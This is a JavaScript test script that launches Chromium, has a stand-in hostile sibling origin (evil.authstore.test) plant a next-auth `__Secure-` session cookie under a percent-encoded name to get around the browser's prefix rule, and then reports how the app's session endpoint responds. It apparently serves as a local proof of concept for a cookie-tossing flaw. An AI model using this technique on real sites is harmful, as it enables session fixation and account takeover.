// A sibling origin plants a session cookie, in Chromium: a page at
// http://evil.authstore.test (served by the browser's request interception,
// no server) sets, for Domain=authstore.test, the `__Secure-` session cookie
// under its literal name (the browser must refuse it: not over https) and
// under a percent-encoded name (the browser takes it: to the browser it is
// another cookie). Then the browser opens the app's https URL and reports
// what the server answered.
//
//   node planted-cookie.mjs '{"app": "https://app.authstore.test:…", "name": "__Secure-next-auth.session-token", "token": "…"}'
//
// Prints {"planted": [names the browser keeps], "status": …, "body": …, "setCookie": […]}.
import { httpsPage, launchChromium } from "./chromium.mjs";

const input = JSON.parse(process.argv[2]);
const browser = await launchChromium(["--host-resolver-rules=MAP *.authstore.test 127.0.0.1"]);
try {
  const { context, page } = await httpsPage(browser);
  const encoded = input.name.replace("-", "%2D");
  const plant = (name) => `document.cookie = ${JSON.stringify(`${name}=${input.token}; Domain=authstore.test; Path=/`)};`;
  await context.route("http://evil.authstore.test/**", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<script>${plant(input.name)}${plant(encoded)}</script><p id="done">planted</p>`,
    }),
  );
  await page.goto("http://evil.authstore.test/");
  await page.waitForSelector("#done");
  const planted = (await context.cookies()).map((cookie) => cookie.name).sort();
  const response = await page.goto(`${input.app}/auth/session`);
  const setCookie = (await response.headersArray())
    .filter((header) => header.name.toLowerCase() === "set-cookie")
    .map((header) => header.value);
  const body = await page.textContent("body");
  process.stdout.write(JSON.stringify({ planted, status: response.status(), body, setCookie }));
} finally {
  await browser.close();
}
